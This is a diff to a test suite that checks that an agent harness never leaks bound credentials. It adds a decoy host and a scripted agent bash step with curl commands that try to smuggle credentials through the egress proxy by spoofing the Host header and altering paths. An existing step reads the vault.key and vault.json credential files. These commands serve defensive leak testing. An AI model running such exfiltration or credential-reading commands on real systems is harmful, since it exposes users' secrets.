@@ -19,6 +19,7 @@ import { tempDir } from '../support/temp.js';
 import { processes } from '../support/procs.js';
 import { startGitUpstream, startHttpUpstream, startMcpUpstream, type Upstream } from '../support/upstreams.js';
 import { until } from '../support/until.js';
+import { startRecordingUpstream, type RecordingUpstream } from '../support/egress-upstreams.js';
 
 const everything = fileURLToPath(new URL('../../../node_modules/@modelcontextprotocol/server-everything/dist/index.js', import.meta.url));
 
@@ -40,6 +41,8 @@ describe('no secret ever leaks', () => {
   let http: Upstream;
   let git: Upstream & { log(): string };
   let mcp: Upstream & { calls: string[] };
+  /** A host the session may reach through the egress proxy, and no credential is bound to. */
+  let decoy: RecordingUpstream;
   let events: Event[];
   let workspace: string;
   const hits: string[] = [];
@@ -50,7 +53,7 @@ describe('no secret ever leaks', () => {
 
   before(async () => {
     rig = await startAgentRig();
-    [http, git, mcp] = await Promise.all([startHttpUpstream(marker), startGitUpstream(marker), startMcpUpstream(marker)]);
+    [http, git, mcp, decoy] = await Promise.all([startHttpUpstream(marker), startGitUpstream(marker), startMcpUpstream(marker), startRecordingUpstream()]);
     // One raw connection records every byte a client receives for the whole run.
     raw = await RawConnection.open(rig.daemon.layout.socket);
     let id = 1;
@@ -63,6 +66,7 @@ describe('no secret ever leaks', () => {
     const created = await call('session/create', {
       workspace,
       permissions: { default: 'allow' },
+      network: { default: 'deny', allow: [decoy.authority] },
       credentials: ['API', 'GIT'],
       repos: [{ url: git.url, credential: 'GIT', path: 'repo' }],
       mcpServers: [
@@ -81,6 +85,8 @@ describe('no secret ever leaks', () => {
       bash('cd repo && echo more >> README.md && git -c user.email=a@b -c user.name=agent commit -qam leak-test && git push -q origin HEAD:main && git fetch -q && git log --oneline -2'),
       reply.toolUse({ name: 'mcp__notes__lookup', input: { word: 'leak' } }),
       reply.toolUse({ name: 'mcp__everything__get-env', input: {} }),
+      // Smuggling through the egress proxy: the bound host's name in Host, the credential's name in the path, the bound path on another host.
+      bash(`curl -sS -H 'Host: ${new URL(http.url).host}' ${decoy.url}/API/things; curl -sS ${decoy.url}${new URL(http.url).pathname}x; curl -sS -x "$HTTP_PROXY" --noproxy '' -H 'Host: ${new URL(git.url).host}' ${decoy.url}/repo.git/info/refs`),
       bash(`cat ${home}/vault.key; ls -la ${home}; ls -la ${home}/daemon.sock; cat ${home}/vault.json; echo exit=$?`),
       reply.text('all done'),
     ]);
@@ -108,7 +114,7 @@ describe('no secret ever leaks', () => {
 
   after(async () => {
     await rig.dispose();
-    await Promise.all([http.close(), git.close(), mcp.close()]);
+    await Promise.all([http.close(), git.close(), mcp.close(), decoy.close()]);
   });
 
   it('used the secret for real: every upstream received it', () => {
@@ -129,6 +135,8 @@ describe('no secret ever leaks', () => {
     check('daemon.log', readFileSync(rig.daemon.layout.logFile));
     check('daemon stdout and stderr', rig.daemon.stdout() + rig.daemon.stderr());
     check('every byte sent to the client socket', JSON.stringify(raw.messages));
+    check('a host reached through the egress proxy that no credential is bound to', JSON.stringify(decoy.seen));
+    assert.equal(decoy.seen.length, 3, 'the decoy was reached each time');
     assert.deepEqual(hits, []);
   });
 
